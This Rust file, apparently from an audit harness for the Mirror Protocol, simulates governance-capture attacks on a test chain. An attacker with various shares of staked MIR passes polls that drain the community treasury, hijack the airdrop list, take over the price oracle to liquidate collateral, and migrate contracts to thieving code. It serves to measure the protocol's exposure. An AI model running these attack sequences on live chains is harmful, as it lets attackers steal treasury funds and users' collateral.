//! What an attacker with a part of the stake decides, by kind of poll.

use cosmwasm_std::{to_json_binary, Decimal, Uint128, WasmMsg};
use cw20::Cw20ExecuteMsg;
use mirror_merkle::{leaf, Tree};
use mirror_protocol::gov::{PollAdminAction, PollStatus, VoteOption};
use mirror_protocol::{admin_manager, airdrop, community, factory};
use mirror_testing::{percent, standard_profile, usual_listing, Actor, TestChain, World};
use serde_json::json;
use terraswap::asset::Asset;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, DAY, MILLION, UNIT};
use crate::attacks::polls::{self, Proposal, FOR_DEPOSITS};
use crate::attacks::report::{Attempt, Exposure, Findings, Report};
use crate::attacks::thieving_code;
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

/// The name of the attack that shows what a part of the stake decides.
pub const CAPTURED: &str = "captured gov";

pub(super) const ATTACK: Attack = Attack {
    name: CAPTURED,
    story:
        "What a fifth, a third, a majority and two thirds of the stake decide, by kind of poll: \
            where the quorum or the threshold is out of reach nothing, and else what the kind may \
            do, of a treasury of 36.6 million MIR, an airdrop of 9.15, a pool of a million coins \
            and twelve million in mint.",
    run,
};

/// A kind of poll, and what the attacker has it do.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Pays two grants to the attacker.
    Default,
    /// Registers a list for the airdrop with only the attacker on it.
    Execute,
    /// Makes the attacker a feeder, whose price puts everybody's collateral up for sale.
    Feeder,
    /// Gives a pair other code.
    ExecuteCode,
    /// Gives the treasury and mint other code.
    Migration,
    /// Gives the attacker the right to change all code.
    AuthAdmin,
}

const KINDS: [(Kind, &str); 6] = [
    (
        Kind::Default,
        "a default poll: two grants of a million in 30 days",
    ),
    (Kind::Execute, "execute: the airdrop's list"),
    (Kind::Feeder, "execute: the feeder of an asset"),
    (Kind::ExecuteCode, "execute with code: a pair's"),
    (Kind::Migration, "a migration: the treasury and mint"),
    (Kind::AuthAdmin, "another admin action: a claim of all code"),
];

/// How the stake votes.
#[derive(Clone, Copy)]
struct Votes {
    /// What the attacker has staked.
    own: u128,
    /// The same in words.
    part: &'static str,
    /// Whether all others vote no.
    resists: bool,
}

const VOTES: [(Votes, &str); 6] = [
    (
        quiet(201, "a fifth"),
        "a fifth of the stake, nobody else votes",
    ),
    (
        quiet(334, "a third"),
        "a third of the stake, nobody else votes",
    ),
    (quiet(501, "a majority"), "a majority, nobody else votes"),
    (resisted(334, "a third"), "a third, all others say no"),
    (resisted(501, "a majority"), "a majority, all others say no"),
    (resisted(668, "two thirds"), "two thirds, all others say no"),
];

/// Nobody else votes.
const fn quiet(thousandths: u128, part: &'static str) -> Votes {
    Votes {
        own: polls::part(thousandths),
        part,
        resists: false,
    }
}

/// All others vote no.
const fn resisted(thousandths: u128, part: &'static str) -> Votes {
    Votes {
        own: polls::part(thousandths),
        part,
        resists: true,
    }
}

/// The exposures as a table: a row for each kind of poll, a column for each part of the stake.
pub struct Matrix<'a> {
    /// The heads of the columns: the part of the stake, and whether the others vote.
    pub heads: [[&'static str; 2]; 6],
    /// The rows: the kind of poll and its exposures; `None` where the poll is rejected.
    pub rows: [(&'static str, [Option<&'a Exposure>; 6]); 6],
}

impl<'a> Matrix<'a> {
    /// The table of a report; `None` if the report is of another attack.
    pub fn of(report: &'a Report) -> Option<Self> {
        let exposure = |when: String| report.exposures.iter().find(|one| one.when == when);
        let cells = |what| VOTES.map(|(_, who)| exposure(exposure_name(who, what)));
        let others = |votes: Votes| if votes.resists { "against" } else { "alone" };

        (report.name == CAPTURED).then(|| Self {
            heads: VOTES.map(|(votes, _)| [votes.part, others(votes)]),
            rows: KINDS.map(|(_, what)| (what, cells(what))),
        })
    }
}

/// The name of an exposure.
fn exposure_name(who: &str, what: &str) -> String {
    format!("{who}: {what}")
}

fn run() -> anyhow::Result<Findings> {
    let mut attempts = vec![];
    let mut exposures: Vec<Exposure> = vec![];
    for (votes, who) in VOTES {
        let mut refused = vec![];
        for (kind, what) in KINDS {
            let (attempt, status) = decides(kind, votes)?;
            let name = exposure_name(who, what);
            match status {
                PollStatus::Executed => exposures.push(attempt.exposes(name)),
                _ => refused.push(attempt),
            }
        }
        if !refused.is_empty() {
            let tried = format!("{who}: of the six actions {} are rejected", refused.len());
            attempts.push(Attempt::best(refused, tried)?);
        }
    }
    Ok(Findings {
        attempts,
        exposures,
    })
}

fn decides(kind: Kind, votes: Votes) -> anyhow::Result<(Attempt, PollStatus)> {
    let mut trial = prepared(votes)?;
    let mut status = PollStatus::InProgress;
    let mut open = vec![];
    for proposal in proposals(&mut trial, kind)? {
        let poll_id = polls::proposes(&mut trial, "T-61", &proposal)?;
        open.extend(poll_id.map(|poll_id| (poll_id, proposal)));
    }
    for (poll_id, _) in &open {
        polls::votes(&mut trial, *poll_id)?;
        if votes.resists {
            for name in ["alice", "bob", "carol"] {
                trial.world.actor(name).votes(*poll_id, VoteOption::No);
            }
        }
    }
    for (poll_id, proposal) in open {
        status = polls::concludes(&mut trial, "T-61", poll_id, &proposal)?;
    }
    if status == PollStatus::Executed {
        takes(&mut trial, kind)?;
    }
    polls::leaves(&mut trial)?;
    Ok((trial.ends(String::new())?, status))
}

/// A governed protocol with funds in every contract, 31 days after the hand-over.
fn prepared(votes: Votes) -> anyhow::Result<Trial> {
    let mut profile = standard_profile(&TestChain::new());
    profile.oracle_max_deviation = None;
    profile.assets = vec![usual_listing("mAAPL")];
    let mut world = World::governed_as(profile);
    world.chain.pass(31 * DAY);
    world.feeds(&[("mAAPL", "10")]);
    fixtures::pool(&mut world, "mAAPL", MILLION);
    world.bob().opens(10 * MILLION, "mAAPL", percent(200));
    let (attacker, who) = (world.chain.account("attacker"), world.at.factory.clone());
    let mirror = world.at.mirror_token.clone();
    // The genesis does not leave enough MIR unassigned, so it is minted here.
    let mint = Cw20ExecuteMsg::Mint {
        recipient: attacker.to_string(),
        amount: Uint128::new(votes.own + FOR_DEPOSITS),
    };
    let world_ref = &mut world;
    Actor {
        world: world_ref,
        who,
    }
    .tries(&mirror, &mint, &[])?;
    world.actor("attacker").tries_to_stake_mir(votes.own)?;
    world.chain.pass(6);
    let prices = [
        ("mAAPL", fixtures::price("10")?),
        ("MIR", fixtures::price("0.5")?),
    ];
    Trial::new(world, &prices)
}

fn proposals(trial: &mut Trial, kind: Kind) -> anyhow::Result<Vec<Proposal>> {
    let at = trial.world.at.clone();
    let attacker = trial.attacker.to_string();
    let code_id = trial.world.chain.app.store_code(thieving_code::code());
    Ok(match kind {
        Kind::Default => {
            let spend = community::ExecuteMsg::Spend {
                recipient: attacker,
                amount: Uint128::new(MILLION),
            };
            let grant = Proposal::call(&at.community, &spend)?;
            vec![grant.clone(), grant]
        }
        Kind::Execute => {
            let (tree, _) = list(trial)?;
            let list = airdrop::ExecuteMsg::RegisterMerkleRoot {
                merkle_root: tree.root().to_string(),
                total_amount: None,
                expiration: None,
            };
            vec![Proposal::execute(&at.uni_airdrop, &list)?]
        }
        Kind::Feeder => {
            let register = json!({ "register_asset": {
                "asset_token": trial.world.token("mAAPL"), "feeder": attacker,
            } });
            let pass = factory::ExecuteMsg::PassCommand {
                contract_addr: at.oracle.to_string(),
                msg: to_json_binary(&register)?,
            };
            vec![Proposal::execute(&at.factory, &pass)?]
        }
        Kind::ExecuteCode => {
            let migrate = terraswap::factory::ExecuteMsg::MigratePair {
                contract: trial.world.asset("mAAPL").pair.into_string(),
                code_id: Some(code_id),
            };
            vec![Proposal::execute(&at.swap_factory, &migrate)?]
        }
        Kind::Migration => {
            let msg = to_json_binary(&thieving_code::MigrateMsg {
                thief: Some(trial.attacker.clone()),
                token: Some(at.mirror_token),
            })?;
            let both = [at.community, at.mint];
            let migrations = both.map(|contract| (contract.into_string(), code_id, msg.clone()));
            let migrations = migrations.to_vec();
            vec![Proposal::admin(PollAdminAction::ExecuteMigrations {
                migrations,
            })]
        }
        Kind::AuthAdmin => vec![Proposal::admin(PollAdminAction::AuthorizeClaim {
            authorized_addr: attacker,
        })],
    })
}

/// A list with only the attacker on it, who gets all that is left of the UNI holders' airdrop.
fn list(trial: &Trial) -> anyhow::Result<(Tree, Uint128)> {
    let at = &trial.world.at;
    let left = trial.world.token_balance(&at.mirror_token, &at.uni_airdrop);
    let tree = Tree::new(vec![leaf(trial.attacker.as_str(), left)])?;
    Ok((tree, left))
}

/// After the poll the attacker takes what it has made available.
fn takes(trial: &mut Trial, kind: Kind) -> anyhow::Result<()> {
    let at = trial.world.at.clone();
    if kind == Kind::Execute {
        let (_, amount) = list(trial)?;
        let claim = airdrop::ExecuteMsg::Claim {
            stage: 1,
            amount,
            proof: vec![],
            address: None,
        };
        trial.does(Transaction::new().calls(&at.uni_airdrop, &claim))?;
    }
    if kind == Kind::Feeder {
        buys_out(trial)?;
    }
    if kind == Kind::AuthAdmin {
        let new_code_id = trial.world.chain.app.store_code(thieving_code::code());
        let msg = to_json_binary(&thieving_code::MigrateMsg {
            thief: Some(trial.attacker.clone()),
            token: Some(at.mirror_token),
        })?;
        for contract in [at.community, at.mint] {
            let claim = admin_manager::ExecuteMsg::ClaimAdmin {
                contract: contract.to_string(),
            };
            let migrate = WasmMsg::Migrate {
                contract_addr: contract.into_string(),
                new_code_id,
                msg: msg.clone(),
            };
            let mut transaction = Transaction::new().calls(&at.admin_manager, &claim);
            transaction.messages.push(Ok(migrate.into()));
            trial.does(transaction)?;
        }
    }
    Ok(())
}

/// At a price a thousand times the fair one every position is for sale for almost nothing: the
/// tokens that buy it are minted before, at the fair price.
fn buys_out(trial: &mut Trial) -> anyhow::Result<()> {
    let (at, token) = (trial.world.at.clone(), trial.world.token("mAAPL"));
    let post = |price: u128| {
        Transaction::new().feeds(&at.oracle, &token, Decimal::from_ratio(price, 1u128))
    };
    trial.world.chain.pass(6);
    trial.does(post(10))?;
    let paid = base(50_000 * UNIT);
    trial.does(Transaction::new().opens(&at.mint, paid, &token, percent(200)))?;
    trial.world.chain.pass(6);
    trial.does(post(10_000))?;
    for idx in 1..=2u128 {
        let part = Asset::token(&token, PRICE_OF_ALL);
        trial.does(Transaction::new().auctions(&at.mint, idx.into(), part))?;
    }
    Ok(())
}

/// More tokens than it takes to buy ten million coins at a price of 10,000 and a discount of a
/// fifth.
const PRICE_OF_ALL: u128 = 1_200 * UNIT;
